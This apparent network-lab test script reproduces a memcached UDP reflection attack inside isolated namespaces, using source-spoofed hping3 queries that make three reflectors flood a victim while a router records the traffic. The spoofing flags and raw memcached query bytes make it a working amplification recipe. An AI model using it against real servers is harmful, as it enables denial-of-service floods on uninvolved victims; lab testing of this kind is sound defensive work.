#!/bin/bash
# memcached reflection, the real thing: three open servers hold a value of 60 kB;
# the attacker asks for it in the victim's name (hping3 -a), and each question
# brings the victim some 43 datagrams of 1400 bytes from port 11211.
. "$(dirname "$0")/../../lab.sh"; lab
outside attacker 203.0.113.66
outside reflectors 198.51.100.31 198.51.100.32 198.51.100.33
inside victim 10.20.0.10
ip netns exec "$net-reflectors" memcached -u root -l 198.51.100.31,198.51.100.32,198.51.100.33 -U 11211 -p 11211 -m 16 &
sleep 1
{ printf 'set a 0 3600 60000\r\n'; head -c 60000 /dev/zero | tr '\0' x; printf '\r\nquit\r\n'; } |
	on reflectors nc -N 198.51.100.31 11211
printf '\x00\x01\x00\x00\x00\x01\x00\x00get a\r\n' >$tmp/query
record router wan -s 96
for i in 31 32 33; do
	ip netns exec "$net-attacker" timeout 6 hping3 -q -n -I eth0 --udp -a 10.20.0.10 -s 4$i -k -p 11211 \
		-d 15 -E $tmp/query -i u40000 -c 80 198.51.100.$i >/dev/null 2>&1 &
	workers="${workers:-} $!"
done
wait $workers || true
recorded
